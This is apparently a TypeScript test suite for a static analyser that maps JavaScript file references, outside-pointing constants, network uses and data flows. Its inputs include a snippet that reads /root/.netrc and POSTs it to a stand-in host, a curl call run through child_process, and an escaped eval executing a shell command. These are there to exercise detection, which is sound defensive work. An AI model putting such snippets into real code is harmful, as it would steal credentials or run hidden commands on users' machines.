import assert from 'node:assert/strict';
import { analyse } from '../facts';

const javascript = (text: string) => analyse('javascript', text);
const referencesOf = (text: string) => javascript(text).references.map(({ how, path }) => `${how} ${path}`);

describe('JavaScript: files of the same extension', () => {
	const cases: readonly (readonly [code: string, references: readonly string[]])[] = [
		['import a from "./a.js"', ['import ./a.js']],
		['export * from "../lib"', ['import ../lib']],
		['import "./side.mjs"', ['import ./side.mjs']],
		['const a = require("./lib/a")', ['import ./lib/a']],
		['await import("./plug.js")', ['import ./plug.js']],
		['import x from "lodash"; require("@a/b")', []],
		['require("fs").readFileSync("data/x.json")', ['read data/x.json']],
		['require("child_process").spawn("node", ["scripts/x.js"])', ['run scripts/x.js']],
		['new Worker("./w.js")', ['run w.js']],
	];
	for (const [code, expected] of cases) it(code, () => assert.deepEqual(referencesOf(code), expected));
});

describe('JavaScript: constants', () => {
	it('are those of the module that name something outside', () => {
		const { constants } = javascript(
			'const URL = "https://a.example/x";\nexport const HOME = "~/.aws";\nlet name = "plain";\nconst n = 1;\nfunction f() { const inner = "https://b.example" }\nfetch(URL)',
		);
		assert.deepEqual(
			constants.map(({ name, value }) => [name, value]),
			[
				['URL', 'https://a.example/x'],
				['HOME', '~/.aws'],
			],
		);
	});
});

describe('JavaScript: places and reasons', () => {
	it('code in a literal has its own place', () => {
		const text = 'require("child_process").exec("cd /tmp && curl -s https://a.example/x")';
		const use = javascript(text).uses.find(({ kind }) => kind === 'network');
		assert.ok(use !== undefined);
		assert.ok(text.slice(use.range.start, use.range.end).includes('https://a.example/x'));
		assert.ok(use.range.start > text.indexOf('cd /tmp'));
	});

	it('a flow shows every hop', () => {
		const text =
			'const fs = require("fs");\nconst key = fs.readFileSync("/root/.netrc");\nfetch("https://a.example", { method: "POST", body: key });';
		assert.deepEqual(
			javascript(text).flows[0]?.steps.map(({ what }) => what),
			['reads ~/.netrc', 'kept in `key`', 'sent by fetch'],
		);
	});

	it('text that is no code is said to be unknown', () => {
		const { unparsed } = javascript('eval(x);\n] ] ) } this is ( not javascript ] at all = = ) ) ] ] }\n');
		assert.ok(unparsed.length > 0);
	});

	it('types in JavaScript are read', () => {
		const text =
			'import { readFileSync } from "fs";\nconst f = (p: string): string => readFileSync(p, "utf8");\nf("a.txt");';
		assert.deepEqual(javascript(text).unparsed, []);
		assert.equal(javascript(text).uses.length, 1);
	});

	it('names in escapes keep everything in its place', () => {
		const text = "const a = 1; \\u0065val(\"require('child_process').exec('id')\")";
		const [use] = javascript(text).uses;
		assert.equal(text.slice(use?.range.start, use?.range.end), 'id');
	});
});
